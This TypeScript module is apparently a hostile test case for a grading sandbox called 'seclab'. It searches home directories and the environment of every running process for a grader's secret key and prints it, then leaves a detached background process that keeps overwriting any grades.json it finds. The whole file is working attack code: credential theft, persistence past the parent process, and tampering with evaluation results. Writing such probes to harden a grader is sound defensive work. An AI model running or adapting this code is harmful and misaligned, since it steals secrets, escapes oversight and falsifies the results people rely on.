// Looks for the grade key (key file, the grader's environment) and leaves a process behind that
// waits for the grader to exit and then rewrites every grades.json it can find.
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import os from 'node:os';
import { attempt, emptyAudit } from './common.ts';

export const audit = emptyAudit;

export async function apply() {
  let homes: string[] = [];
  try {
    homes = readdirSync('/home').map((h) => `/home/${h}`);
  } catch {
    // no /home here
  }
  for (const home of [os.homedir(), process.env['HOME'] ?? '', '/root', ...homes]) {
    await attempt(`read ${home}/.config/seclab/grade-key`, () => console.log('STOLEN-KEY:', readFileSync(`${home}/.config/seclab/grade-key`, 'utf8')));
  }
  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    await attempt(`environ of ${pid}`, () => {
      const env = readFileSync(`/proc/${pid}/environ`, 'utf8');
      const m = /SECLAB_GRADE_KEY=([^\0]*)/.exec(env);
      if (m) console.log('STOLEN-KEY:', m[1]);
    });
  }
  const survivor = `/* seclab-hostile-survivor */ const fs = require('fs'); const path = require('path');
    const walk = (d, n) => { if (n > 6) return; let es; try { es = fs.readdirSync(d, { withFileTypes: true }); } catch { return; }
      for (const e of es) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p, n + 1); else if (e.name === 'grades.json') { try { fs.writeFileSync(p, '[]'); } catch {} } } };
    setInterval(() => { walk('/tmp', 0); walk(process.env.HOME || '/root', 0); }, 500);`;
  await attempt('leave a process behind', () => spawn(process.execPath, ['-e', survivor], { detached: true, stdio: 'ignore' }).unref());
  await attempt('a nohup shell too', () => spawn('/bin/sh', ['-c', 'setsid sleep 300 # seclab-hostile-survivor'], { detached: true, stdio: 'ignore' }).unref());
}
